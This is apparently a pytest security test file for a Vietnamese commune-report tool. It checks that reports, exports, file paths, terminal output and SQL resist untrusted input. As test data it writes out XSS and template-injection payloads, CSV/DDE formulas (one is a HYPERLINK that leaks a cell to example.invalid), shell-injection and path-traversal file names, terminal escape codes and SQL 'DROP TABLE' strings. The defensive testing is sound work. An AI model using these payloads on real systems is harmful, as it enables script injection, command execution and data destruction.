"""Untrusted text: markup never passes into reports, formulas never run from exports, names never
become paths, values never become SQL, and control characters never reach the terminal.

One hostile workbook (Xã Gia Kiệm) carries payloads in every free-text place:
the narrative sections, the notes, the commendation proposals (names,
addresses, achievements) and the preparer's name, title and phone. A second
one (Xã Quang Trung) is rejected, its wrong cells holding formula-like text,
so that the problems table quotes them. Both are ingested; the unit report is
rendered once by ``nrlib reports`` (a real papermill run, with
``include_personal_data`` so names are shown too), and the store is exported.
"""

from __future__ import annotations

import ast
import csv
import html
import json
import re
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from ingest_fixtures import fixture_outline, OTHER, UNIT, addr, good_content, write_good

from nrlib import find_unit
from nrlib import store as st
from nrlib.export import export_store
from nrlib.ingest import ingest_files
from nrlib.reports.html_export import offline_violations
from nrlib.workbooks.template import write_workbook

ROOT = Path(__file__).resolve().parents[2]

#: text a commune could type to attack a report, a notebook or a template engine
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7} {% raw %}",
    "javascript:alert(1)",
    "[bấm vào đây](javascript:alert(1))",
    "![ảnh](http://example.invalid/x.png)",
    '<a href="javascript:alert(1)">xem</a>',
    '"><svg onload=alert(1)>',
    "</textarea></script><script>alert(1)</script>",
    "<iframe src=//example.invalid></iframe>",
    "&lt;b&gt;đã mã hóa sẵn&lt;/b&gt;",
    "# Tiêu đề giả\n* mục | bảng |\n---",
    "<style>body{display:none}</style>",
    "\u202eđảo chiều",
]
#: text a spreadsheet would run as a formula (CSV injection)
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"bấm")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "=1+1"]
PREPARER = "Nguyễn Thị Bảo Mật"
PHONE = "0909 123 456"
PERSON = "Lê Văn Riêng Tư"


def _hostile_content() -> dict:
    content = good_content(UNIT)
    text = "\n".join(PAYLOADS)
    content["narratives"] = {code: f"Mục {code}: {text}" for code in content["narratives"]}
    content["criteria_notes"] = {1: text, 2: FORMULAS[1]}
    content["info"].update(preparer_name=f"{PREPARER} <script>alert(1)</script>", phone=PHONE,
                           preparer_title="{{7*7}} <b>Chủ tịch</b>")
    content["proposals"] = [
        {"kind": "individual", "name": f"{PERSON} <img src=x onerror=alert(1)>", "address": "javascript:alert(1)",
         "achievement": text, "award_form": "Giấy khen của UBND huyện"},
        {"kind": "collective", "name": "Ban công tác Mặt trận ấp 1 {{7*7}}", "address": "<b>Ấp 1</b>",
         "achievement": "@SUM(1+1) +cmd", "award_form": "Giấy khen của UBND huyện"},
    ]
    return content


def _write_rejected(path: Path) -> Path:
    """Xã Quang Trung's workbook, formula-like text typed into number cells and a choice cell.

    Written as inline strings at the XML level: openpyxl would store text
    starting with ``=`` as a formula (what Excel shows after ``'=...``)."""
    from hostile.xlsx_edit import Book, col_number

    write_workbook(path, find_unit(OTHER), content=good_content(OTHER, shift=2.0), outline=fixture_outline())
    book = Book(path)
    cells = [("VanDong", addr("VanDong", f"VD0{i + 1}", 2016), f) for i, f in enumerate(FORMULAS)]
    cells.append(("KhenThuong", addr("KhenThuong", 1, "award_form"), "=cmd|'/C calc'!A0"))
    for sheet, ref, value in cells:
        m = re.fullmatch(r"([A-Z]+)(\d+)", ref)
        book.sheets[sheet].set(int(m.group(2)), col_number(m.group(1)), value)
    return book.write(path)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    root = tmp_path_factory.mktemp("untrusted")
    src = root / "in"
    src.mkdir()
    good = write_workbook(src / f"{UNIT}_gia-kiem.xlsx", find_unit(UNIT), content=_hostile_content(), outline=fixture_outline())
    bad = _write_rejected(src / f"{OTHER}_quang-trung.xlsx")
    db = root / "data" / "nrlib.duckdb"
    outs = {o.path.name[:5]: o for o in ingest_files([good, bad], db, received="2021-02-15")}
    assert outs[UNIT].outcome == "accepted", outs[UNIT].problems
    assert outs[OTHER].outcome == "rejected"
    return SimpleNamespace(root=root, db=db, outcomes=outs)


@pytest.fixture(scope="module")
def unit_report(hostile_store):
    """``nrlib reports --unit 26308 --include-personal-data`` on the hostile store (one papermill run)."""
    out = hostile_store.root / "reports"
    proc = subprocess.run([sys.executable, "-m", "nrlib.cli", "reports", "--db", str(hostile_store.db), "--unit",
                           UNIT, "--include-personal-data", "--jobs", "1", "--out", str(out)],
                          capture_output=True, text=True, timeout=600, cwd=hostile_store.root)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    [page] = (out / "units").glob(f"{UNIT}_*.html")
    [nb] = (out / "notebooks" / "units").glob(f"{UNIT}_*.ipynb")
    return SimpleNamespace(html=page.read_text(encoding="utf-8"), notebook=nbformat.read(nb, as_version=4),
                           index=(out / "index.html").read_text(encoding="utf-8"), out=out)


# ----------------------------------------------------------------------------- reports


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the text of every <script>."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def _check_page(page: str) -> None:
    """No payload as markup: tags, event handlers, javascript: links, remote references, script text."""
    p = _Tags()
    p.feed(page)
    tags = {t for t, _ in p.tags}
    assert not tags & {"img", "iframe", "svg", "textarea", "object", "embed"}, tags
    for tag, attrs in p.tags:
        assert not [k for k in attrs if k.startswith("on")], (tag, attrs)
        for k in ("href", "src", "action", "formaction", "xlink:href"):
            assert not attrs.get(k, "").strip().lower().startswith("javascript:"), (tag, attrs)
    for script in p.scripts:
        assert "alert(1)" not in script and "example.invalid" not in script
    assert offline_violations(page) == []


def test_the_unit_report_shows_every_payload_as_text(unit_report):
    page = unit_report.html
    _check_page(page)
    for payload in PAYLOADS:
        first = payload.splitlines()[0]
        if any(ch in first for ch in "<>&\""):
            assert first not in page, first                    # never as markup
        assert html.escape(first, quote=False) in page or html.escape(first) in page, first  # always as text
    assert "{{7*7}}" in page and "${7*7}" in page             # no template engine evaluated it
    assert "&amp;lt;b&amp;gt;đã mã hóa sẵn" in page             # pre-escaped text is shown as typed
    # names are shown only because the run asked for them, and escaped
    assert html.escape(f"{PERSON} <img src=x onerror=alert(1)>", quote=False) in page


def test_the_executed_notebook_holds_escaped_html_and_no_markdown_from_submissions(unit_report):
    for cell in unit_report.notebook.cells:
        if cell.cell_type == "markdown":
            assert "alert(1)" not in cell.source and "{{7*7}}" not in cell.source
        for out in cell.get("outputs", []):
            data = out.get("data", {})
            assert "text/markdown" not in data or "alert(1)" not in data["text/markdown"]
            if "text/html" in data:
                _check_page(data["text/html"] if isinstance(data["text/html"], str) else "".join(data["text/html"]))


def test_the_report_never_shows_the_preparer_or_the_phone(unit_report):
    """The preparer's name and phone are personal data with no place in any report, asked or not."""
    assert PREPARER not in unit_report.html and PHONE not in unit_report.html


def test_the_index_page_is_clean(unit_report):
    _check_page(unit_report.index)
    m = re.search(r'<script type="application/json" id="nrlib-report">(.*?)</script>', unit_report.index, re.S)
    json.loads(m.group(1))


# ----------------------------------------------------------------------------- exports


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_exports_neutralise_every_formula_and_hold_no_personal_data(hostile_store, tmp_path):
    paths = export_store(tmp_path / "export", hostile_store.db)
    seen = set()
    for path in paths:
        text = path.read_text(encoding="utf-8-sig")
        assert PREPARER not in text and PHONE not in text and PERSON not in text, path.name
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell and not _number(cell):
                        assert not cell.startswith(FORMULA_START), (path.name, cell)
                    seen.add(cell)
    for formula in FORMULAS:
        assert "'" + formula.strip() in seen, formula      # quoted whole in problems.csv (value column)


# ----------------------------------------------------------------------------- paths


def _tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def _variant(src: Path, dst: Path, tag: str) -> Path:
    """A copy of ``src`` with a different checksum (a zip comment), same content."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        zout.comment = tag.encode()
    return dst


ODD_NAMES = ["-rf.xlsx", "--help.xlsx", "Báo cáo xã Gia Kiệm (bản cuối).xlsx", "26308 ; rm -rf ~ $(id) `id`.xlsx",
             "a\x1b[31mđỏ\x1b[0m.xlsx", "dòng\nmới.xlsx", "x" * 50 + "ệ" * 60 + ".xlsx", "..xlsx", " .xlsx"]


def test_odd_file_names_are_ingested_and_never_become_paths_or_terminal_codes(tmp_path):
    assert all(len(n.encode()) <= 255 for n in ODD_NAMES) and max(len(n.encode()) for n in ODD_NAMES) > 230
    src = write_good(tmp_path / "base.xlsx")
    folder = tmp_path / "in"
    folder.mkdir()
    for i, name in enumerate(ODD_NAMES):
        _variant(src, folder / name, str(i))
    db = tmp_path / "data" / "s.duckdb"
    before = _tree(tmp_path)
    proc = subprocess.run([sys.executable, "-m", "nrlib.cli", "ingest", "--db", str(db), "--received",
                           "2021-02-15", "--", *[str(folder / n) for n in ODD_NAMES if n.startswith(("-", "."))],
                           str(folder)], capture_output=True, text=True, timeout=300)   # a folder skips hidden files
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr
    outcome_lines = [line for line in proc.stdout.splitlines() if "đã chấp nhận" in line]
    assert len(outcome_lines) == len(ODD_NAMES)             # one line per file: no name broke a line
    new = _tree(tmp_path) - before
    assert all(p == "data" or p.startswith("data/") for p in new), new
    raw = sorted(p.split("/")[-1] for p in new if p.startswith("data/submissions/raw/"))
    assert len(raw) == len(ODD_NAMES) and all(re.fullmatch(rf"{UNIT}_20210215_[0-9a-f]{{12}}\.xlsx", n) for n in raw)
    with st.open_store(db) as con:
        names = {r[0] for r in con.execute("SELECT file_name FROM submissions").fetchall()}
    assert names == set(ODD_NAMES)                           # the received names kept as data


def test_a_claimed_unit_or_a_manifest_name_never_leads_outside_the_raw_folder(tmp_path):
    content = good_content(UNIT)
    content["overrides"] = {("ThongTin", addr("ThongTin", "unit_code", "value")): "../../x"}
    evil_dir = tmp_path / "elsewhere"
    evil_dir.mkdir()
    evil = write_workbook(evil_dir / "evil.xlsx", find_unit(UNIT), content=content, outline=fixture_outline())
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    manifest = inbox / "received.csv"
    manifest.write_text("file_name,unit_code,received_date\n../../elsewhere/evil.xlsx,../../y,2021-02-15\n",
                        encoding="utf-8")
    db = tmp_path / "data" / "s.duckdb"
    before = _tree(tmp_path)
    [out] = ingest_files([evil], db, manifest=manifest)
    assert out.outcome == "rejected" and "E_UNIT_UNKNOWN" in {p.rule for p in out.problems}
    new = _tree(tmp_path) - before
    assert all(p == "data" or p.startswith("data/") for p in new), new
    assert re.fullmatch(r"submissions/raw/unknown_20210215_[0-9a-f]{12}\.xlsx", out.stored_as)
    with st.open_store(db) as con:
        assert con.execute("SELECT unit_code, claimed_unit_code FROM submissions").fetchall() == [(None, "../../y")]


def test_report_paths_come_from_codes_and_slugs_only(tmp_path):
    from nrlib.reports.jobs import ReportJob

    job = ReportJob("unit", "26308", "../../etc/<b>Xã</b> Gia\x00Kiệm", {}, tmp_path)
    assert job.html_path.parent == tmp_path.resolve() / "units"
    assert re.fullmatch(r"26308_[a-z0-9-]+\.html", job.html_path.name)
    for code in ("../1", "26308/..", "1 OR 1=1", ""):
        with pytest.raises(ValueError):
            ReportJob("unit", code, "x", {}, tmp_path)


def test_status_never_prints_control_characters_of_file_names(tmp_path):
    db = tmp_path / "s.duckdb"
    src = tmp_path / "x.xlsx"
    src.write_bytes(b"not a workbook")
    odd = tmp_path / "tên\x1b]0;pwned\x07.xlsx"
    odd.write_bytes(src.read_bytes())
    ok = write_good(tmp_path / f"{UNIT}_ok.xlsx")
    ingest_files([odd, ok], db, received="2021-02-15")
    proc = subprocess.run([sys.executable, "-m", "nrlib.cli", "status", "--db", str(db)], capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "tên?]0;pwned?.xlsx" in proc.stdout


# ----------------------------------------------------------------------------- SQL


SQL_CALLS = {"execute", "executemany", "sql", "query", "eval"}
SAFE_IDENTIFIER_CALLS = {"sql_ident", "sql_idents"}


class _SqlChecker:
    """SQL text must come from constants: string literals, their concatenation and conditionals, names
    bound to such expressions, and f-strings whose every placeholder is a ``sql_ident(...)`` /
    ``sql_idents(...)`` call (a checked identifier). A function parameter passed on as SQL is checked
    at every call of that function in the module."""

    def __init__(self, tree: ast.Module):
        self.tree = tree
        self.parents = {c: p for p in ast.walk(tree) for c in ast.iter_child_nodes(p)}
        self.functions = {f.name: f for f in ast.walk(tree) if isinstance(f, (ast.FunctionDef, ast.AsyncFunctionDef))}

    def scope(self, node):
        while node in self.parents:
            node = self.parents[node]
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                return node
        return self.tree

    def ok(self, expr, depth: int = 0) -> bool:
        if depth > 8:
            return False
        if isinstance(expr, ast.Constant):
            return isinstance(expr.value, str)
        if isinstance(expr, ast.JoinedStr):
            return all(isinstance(v, ast.Constant) or (
                isinstance(v, ast.FormattedValue) and isinstance(v.value, ast.Call)
                and (getattr(v.value.func, "id", None) or getattr(v.value.func, "attr", None)) in SAFE_IDENTIFIER_CALLS)
                for v in expr.values)
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
            return self.ok(expr.left, depth + 1) and self.ok(expr.right, depth + 1)
        if isinstance(expr, ast.IfExp):
            return self.ok(expr.body, depth + 1) and self.ok(expr.orelse, depth + 1)
        if isinstance(expr, ast.Name):
            return self.name_ok(expr, depth)
        return False

    def name_ok(self, name: ast.Name, depth: int) -> bool:
        scope = self.scope(name)
        assigned = [n.value for n in ast.walk(scope) if isinstance(n, ast.Assign)
                    and any(isinstance(t, ast.Name) and t.id == name.id for t in n.targets)]
        if assigned:
            return all(self.ok(v, depth + 1) for v in assigned)
        if isinstance(scope, (ast.FunctionDef, ast.AsyncFunctionDef)):
            params = [a.arg for a in scope.args.posonlyargs + scope.args.args]
            if name.id in params:
                i = params.index(name.id)
                calls = [c for c in ast.walk(self.tree) if isinstance(c, ast.Call)
                         and getattr(c.func, "id", getattr(c.func, "attr", None)) == scope.name]
                args = [c.args[i] if i < len(c.args) else next((k.value for k in c.keywords if k.arg == name.id), None)
                        for c in calls]
                return bool(calls) and all(a is not None and self.ok(a, depth + 1) for a in args)
        return False

    def violations(self):
        for call in ast.walk(self.tree):
            if isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute) and call.func.attr in SQL_CALLS \
                    and call.args and not self.ok(call.args[0]):
                yield call.lineno, ast.unparse(call)[:120]


def test_sql_is_built_from_constants_only():
    """Every SQL (and pandas query/eval) string in nrlib is constant text with ``?`` parameters; table
    and column names put into it go through ``store.sql_ident`` (documented in SECURITY.md)."""
    found = []
    for path in sorted((ROOT / "nrlib").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        found += [f"{path.name}:{line}: {code}" for line, code in _SqlChecker(tree).violations()]
    assert found == []


def test_the_sql_check_catches_what_it_should():
    bad = '''
def a(con, unit):
    con.execute(f"SELECT * FROM t WHERE unit_code = '{unit}'")
def b(con, unit):
    con.execute("SELECT * FROM t WHERE unit_code = '%s'" % unit)
def c(con, unit):
    con.execute("SELECT * FROM t WHERE unit_code = '{}'".format(unit))
def d(con, unit):
    sql = "SELECT * FROM t WHERE u = '" + unit + "'"
    con.execute(sql)
def e(con, sql):
    con.execute(sql)
def f(con, x):
    e(con, "SELECT 1 WHERE " + x)
'''
    good = '''
def a(con, table, unit):
    con.execute(f"SELECT * FROM {sql_ident(table)} WHERE unit_code = ?", [unit])
def b(con, flag):
    sql = "SELECT 1" + (" WHERE x = ?" if flag else "")
    con.execute(sql, [1])
def c(con, sql, params):
    return con.execute(sql, params)
def d(con):
    c(con, "SELECT ?", [1])
'''
    assert [line for line, _ in _SqlChecker(ast.parse(bad)).violations()] == [3, 5, 7, 10, 12]
    assert list(_SqlChecker(ast.parse(good)).violations()) == []


def test_sql_identifiers_are_checked(tmp_path):
    from nrlib.store import sql_ident, sql_idents

    assert sql_ident("data_values") == "data_values" and sql_idents(["a", "b"], "t") == "t.a, t.b"
    for bad in ("x; DROP TABLE audit", "a b", "1a", "", "t.a", "\"x\"", "tên"):
        with pytest.raises(ValueError):
            sql_ident(bad)


def test_received_names_and_values_travel_as_parameters(tmp_path):
    """A file named like an injection, a unit code and text like SQL: stored verbatim, nothing else touched."""
    db = tmp_path / "s.duckdb"
    content = good_content(UNIT)
    content["narratives"]["I"] = "'); DROP TABLE audit; --"
    src = write_workbook(tmp_path / "x'); DROP TABLE submissions; --.xlsx", find_unit(UNIT), content=content,
                         outline=fixture_outline())
    [out] = ingest_files([src], db, received="2021-02-15")
    assert out.outcome == "accepted"
    with st.open_store(db) as con:
        assert con.execute("SELECT file_name FROM submissions").fetchall() == [(src.name,)]
        assert con.execute("SELECT text FROM narratives WHERE section_code = 'I'").fetchall() == \
            [("'); DROP TABLE audit; --",)]
        assert con.execute("SELECT count(*) FROM audit").fetchall()[0][0] >= 2
